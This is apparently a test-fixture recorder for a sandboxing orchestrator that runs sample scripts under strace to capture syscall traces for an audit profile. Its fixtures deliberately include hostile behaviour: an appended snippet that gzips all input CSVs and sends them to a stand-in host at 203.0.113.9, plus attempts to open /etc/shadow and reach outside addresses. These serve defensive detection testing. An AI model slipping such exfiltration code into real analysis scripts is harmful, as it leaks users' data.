"""Records the traces of this folder that are made by real runs, with the strace and Python of this machine:

    unshare --net python -m tests.data.strace.record [NAME…]

as root, on a machine without a /task, which is made for it and taken away. What the findings must say of each stands in
NAME.json. Those that are not listed here were recorded before, or are written by hand.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import time
from collections.abc import Sequence
from pathlib import Path

from orchestrator.domain.task import TraceProfile
from orchestrator.trace.command import traced

HERE = Path(__file__).parent
TASK = Path("/task")
INPUTS = {
    "code/run.py": """
import os, socket, subprocess, sys, tempfile, threading
names = sorted(os.listdir(sys.argv[1]))
total = sum(float(line) for name in names[:2] for line in open(os.path.join(sys.argv[1], name)))
os.chdir("/task/tmp")
with tempfile.NamedTemporaryFile("w", dir=".", delete=False) as scratch:
    scratch.write(str(total))
os.mkdir("made")
os.replace(scratch.name, "made/half")
where = os.open("made", os.O_RDONLY)
os.unlink("half", dir_fd=where)
os.rmdir("made")
for path in ("/etc/shadow", "/task/in/code/run.py"):
    try:
        open(path, "r+")
    except OSError as error:
        print(error)
for family, address in ((socket.AF_INET, ("9.9.9.9", 53)), (socket.AF_INET6, ("fd00::7", 8443))):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(family, kind) as tried:
            try:
                tried.connect(address) if kind == socket.SOCK_STREAM else tried.sendto(b'{sa_family=AF_INET"', address)
            except OSError as error:
                print(error)
threading.Thread(target=lambda: open("/task/out/from-thread", "w").close()).start()
subprocess.run(["/bin/sh", "-c", f"cat {sys.argv[1]}/{names[0]} | wc -l >/task/out/lines"])
subprocess.run(["/bin/sh", "-c", "kill -9 $$"])
with open("/task/out/total.csv", "w") as out:
    out.write(f"{total}\\n")
sys.exit(3)
""",
    "data/a patient.csv": "1\n2\n",
    "data/b\tpatient é.csv": "3\n",
    "data/never.csv": "4\n",
}
PENGUINS = HERE.parents[2] / "examples" / "penguins"
ANALYSE = (PENGUINS / "analyse.py").read_text()
DATA = {f"data/{name}.csv": (PENGUINS / "data" / "penguins.csv").read_text() for name in ("2007", "2008", "penguins")}
CURIOUS = """
    import socket, subprocess
    subprocess.run(["sh", "-c", "cat /task/in/data/*.csv | gzip >/task/tmp/all.gz"])
    try:
        socket.create_connection(("203.0.113.9", 443), timeout=5).sendall(Path("/task/tmp/all.gz").read_bytes())
    except OSError as error:
        print(error)
    Path("/task/tmp/all.gz").unlink()
"""
Inputs = dict[str, str]
CASES: dict[str, tuple[Inputs, TraceProfile, tuple[str, ...]]] = {
    "penguins": (
        {"code/analyse.py": ANALYSE, **DATA},
        TraceProfile.AUDIT,
        ("python3", "/task/in/code/analyse.py", "/task/in/data/penguins.csv"),
    ),
    "penguins-curious": (
        {"code/analyse.py": ANALYSE + CURIOUS, **DATA},
        TraceProfile.AUDIT,
        ("python3", "/task/in/code/analyse.py", "/task/in/data/penguins.csv"),
    ),
    "analysis-audit": (INPUTS, TraceProfile.AUDIT, ("python3", "-IS", "/task/in/code/run.py", "/task/in/data")),
    "analysis-full": (INPUTS, TraceProfile.FULL, ("python3", "-IS", "/task/in/code/run.py", "/task/in/data")),
    "many-at-once": (
        {},
        TraceProfile.AUDIT,
        ("sh", "-c", "for i in 1 2 3; do (cd /task/tmp; echo $i >$i; cat $i >/dev/null; rm $i) & done; wait"),
    ),
}


def main(wanted: Sequence[str] = ()) -> None:
    TASK.mkdir()
    try:
        for name, (inputs, profile, words) in CASES.items():
            if wanted and name not in wanted:
                continue
            shutil.rmtree(TASK / "in", ignore_errors=True)
            for path, content in inputs.items():
                (TASK / "in" / path).parent.mkdir(parents=True, exist_ok=True)
                (TASK / "in" / path).write_text(content)
            for folder in ("out", "tmp"):
                shutil.rmtree(TASK / folder, ignore_errors=True)
                (TASK / folder).mkdir()
                (TASK / folder).chmod(0o777)
            trace = TASK / "trace"
            environment = {"PATH": "/usr/bin:/bin", "LC_ALL": "C.UTF-8"}
            subprocess.run(
                [*traced(profile, output=str(trace), user="nobody"), *words],
                cwd="/task/out",
                env=environment,
                check=False,
            )
            while not _over(trace):
                time.sleep(0.05)
            (HERE / f"{name}.strace").write_bytes(trace.read_bytes())
    finally:
        shutil.rmtree(TASK)


def _over(trace: Path) -> bool:
    """strace outlives the process a little; it writes the end of the process that it began with."""
    lines = trace.read_bytes().splitlines()
    first = lines[0].split()[0]
    return any(line.startswith(first + b" ") and line.endswith(b"+++") for line in lines)


if __name__ == "__main__":
    main(sys.argv[1:])
